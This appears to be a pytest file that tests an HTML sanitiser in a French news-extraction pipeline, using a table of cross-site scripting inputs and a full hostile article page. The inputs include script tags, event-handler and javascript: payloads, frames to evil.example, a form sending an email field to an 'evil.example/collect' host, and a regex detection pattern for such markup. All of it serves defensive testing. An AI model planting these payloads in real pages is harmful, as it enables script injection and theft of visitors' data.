"""Hostile HTML never survives in `ExtractedArticle.html`: the sanitiser (nh3) runs last.

Two levels: the sanitiser on its own, table-driven, and a whole hostile page through `extract()`.
"""

from __future__ import annotations

import re

import pytest

from kiosque.pipeline.extract import extract
from kiosque.pipeline.extract.sanitize import sanitize_html
from kiosque.pipeline.types import ExtractOptions

# Markers of executable or styling content that must never appear in the output, whatever the input.
FORBIDDEN = re.compile(
    r"<script|<style|<iframe|<frame|<object|<embed|<form|<input|<svg|<math|<base|<meta|<link"
    r"|\bon[a-z]+\s*=|javascript:|vbscript:|data:text|style\s*=|srcdoc|formaction",
    re.IGNORECASE,
)

SANITIZE_CASES = [
    # (hostile input, what must remain, what must be gone)
    ("<p>ok<script>alert(1)</script></p>", "<p>ok</p>", "alert"),
    ("<p onclick='alert(1)' style='color:red'>texte</p>", "<p>texte</p>", "onclick"),
    ('<img src="x" onerror="alert(1)">', "", "onerror"),
    (
        '<img src="https://img.example/a.jpg" onerror="alert(1)" alt="a">',
        '<img src="https://img.example/a.jpg" alt="a">',
        "onerror",
    ),
    ('<img src="javascript:alert(1)">', "<img>", "javascript"),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', "<img>", "data:"),
    ('<img src="mailto:a@b.c">', "<img>", "mailto"),
    ('<a href="javascript:alert(1)">lien</a>', '<a rel="noopener nofollow">lien</a>', "javascript"),
    ('<a href="JaVaScRiPt:alert(1)">lien</a>', '<a rel="noopener nofollow">lien</a>', "alert"),
    (
        '<a href="https://exemple.fr/x" target="_blank" rel="opener">lien</a>',
        '<a href="https://exemple.fr/x" rel="noopener nofollow">lien</a>',
        "target",
    ),
    (
        '<a href="mailto:redaction@exemple.fr">écrire</a>',
        '<a href="mailto:redaction@exemple.fr" rel="noopener nofollow">',
        "<script",
    ),
    ('<a href="/relatif">lien</a>', '<a rel="noopener nofollow">lien</a>', "/relatif"),
    ('<iframe src="https://evil.example/"></iframe><p>après</p>', "<p>après</p>", "evil"),
    ("<style>body{display:none}</style><p>texte</p>", "<p>texte</p>", "display"),
    ('<form action="/x"><input name="q"><button>Envoyer</button></form><p>fin</p>', "<p>fin</p>", "Envoyer"),
    ('<svg onload="alert(1)"><circle/></svg><p>fin</p>', "<p>fin</p>", "circle"),
    ("<math><mi>x</mi></math><p>fin</p>", "<p>fin</p>", "<mi"),
    ('<div class="x" id="y"><span>texte</span></div>', "texte", "class="),
    ("<h1>Titre</h1><h2>Sous-titre</h2><h5>petit</h5>", "<h2>Sous-titre</h2>", "<h1"),
    ('<table><tr><td colspan="2" onmouseover="x()">a</td></tr></table>', '<td colspan="2">a</td>', "onmouseover"),
    ('<td colspan="javascript:1">a</td>', "a", "javascript"),
    (
        "<blockquote><p>cité</p></blockquote><ul><li>un</li></ul>",
        "<blockquote><p>cité</p></blockquote><ul><li>un</li></ul>",
        "<script",
    ),
    ("<!-- <script>alert(1)</script> --><p>x</p>", "<p>x</p>", "alert"),
    (
        "<p>a<br>b</p><figure><img src='https://i.example/p.jpg' width='640' height='360'>"
        "<figcaption>c</figcaption></figure>",
        '<figure><img src="https://i.example/p.jpg" width="640" height="360"><figcaption>c</figcaption></figure>',
        "<script",
    ),
    ("<img src='https://i.example/p.jpg' width='100%'>", '<img src="https://i.example/p.jpg">', "100%"),
    ("<noscript><p>activez JavaScript</p></noscript><p>fin</p>", "<p>fin</p>", "activez"),
    ("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "&lt;script&gt;", "<script"),
]


@pytest.mark.parametrize(("hostile", "kept", "gone"), SANITIZE_CASES)
def test_sanitizer(hostile: str, kept: str, gone: str) -> None:
    clean = sanitize_html(hostile)
    assert kept in clean
    assert gone not in clean
    assert not FORBIDDEN.search(clean)


HOSTILE_ARTICLE = """<!DOCTYPE html>
<html lang="fr"><head><title>Un article piégé - Exemple</title>
<style>p { color: red }</style><script>var tracker = 1;</script>
<meta property="og:image" content="javascript:alert('og')">
</head>
<body onload="alert('body')">
<article>
<h1 onclick="alert('h1')">Un article piégé</h1>
<p style="position:fixed;top:0" onmouseover="alert('p')">Le conseil municipal a voté mardi soir le budget
de la commune, après un débat de plus de trois heures sur les investissements prévus pour les écoles.</p>
<script>document.write('<p>injected by script</p>')</script>
<p>Le maire a défendu <a href="javascript:alert('a')">une hausse modérée</a> des dépenses de fonctionnement,
tandis que l'opposition réclamait <a href="https://exemple.fr/rapport" onclick="steal()">un audit</a> complet.</p>
<img src="x" onerror="alert('img')"><iframe src="https://evil.example/frame" onload="alert('if')"></iframe>
<style>article { display: none }</style>
<p>Les travaux de rénovation du groupe scolaire commenceront en septembre et dureront deux ans, selon le
calendrier présenté par l'adjointe chargée de l'éducation.</p>
<svg onload="alert('svg')"><text>svg text</text></svg>
<form action="https://evil.example/collect"><input name="email">
<button formaction="javascript:alert(1)">OK</button></form>
<p>Le budget sera transmis à la préfecture dans les quinze jours, comme le prévoit la loi, avant son entrée
en vigueur.</p>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<p><img src="https://img.exemple.fr/mairie.jpg" onerror="alert('img2')" alt="La mairie"></p>
</article>
</body></html>
"""


def test_hostile_page_html_is_inert() -> None:
    article = extract(HOSTILE_ARTICLE, ExtractOptions(url="https://www.exemple.fr/actu/budget"))
    assert "Le conseil municipal a voté mardi soir le budget" in article.text
    assert "Les travaux de rénovation du groupe scolaire" in article.text
    assert not FORBIDDEN.search(article.html), article.html
    for leftover in ("alert", "injected by script", "svg text", "evil.example", "tracker"):
        assert leftover not in article.html
        assert leftover not in article.text
    # og:image with a javascript: URL is not an image; the article's own picture is used instead.
    assert article.image_url == "https://img.exemple.fr/mairie.jpg"
    assert "<p>" in article.html
